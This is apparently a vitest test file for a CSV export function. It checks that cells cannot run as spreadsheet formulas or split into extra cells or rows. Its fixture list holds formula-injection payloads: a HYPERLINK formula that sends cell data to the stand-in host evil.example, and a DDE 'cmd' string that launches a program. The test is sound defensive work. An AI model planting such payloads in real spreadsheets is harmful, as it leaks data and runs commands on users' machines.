import Papa from 'papaparse';
import { expect, it } from 'vitest';
import { nastyStrings } from '@/tests/data/nasty-strings.ts';
import { csvFile } from './csv-file.ts';

const FORMULAE = ['=', '+', '-', '@', '\t=', '\r='].flatMap((sign) => [
  `${sign}HYPERLINK("https://evil.example/?"&A1;"x")`,
  `${sign}cmd|'/c calc'!A0`,
]);

it('keeps cells from running as formulas or becoming other cells or rows: 500 strings and formulas (S8)', async () => {
  const strings = [...nastyStrings(), ...FORMULAE, ...['a,b', '"', 'two\nlines', 'two\r\nlines', '']];
  const rows = strings.map((nasty) => ['word', nasty, 'end']);
  const file = await csvFile(rows);
  const text = await file.text();
  expect(new Uint8Array(await file.arrayBuffer()).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  const { data, errors } = Papa.parse<string[]>(text, { delimiter: ',' });
  expect(errors).toEqual([]);
  expect(data).toHaveLength(rows.length);
  for (const [index, row] of data.entries()) {
    const nasty = strings[index] ?? '';
    expect(row).toHaveLength(3);
    expect(row[1]).not.toMatch(/^[=+\-@\t\r]/);
    expect([nasty, `'${nasty}`]).toContain(row[1]);
  }
});
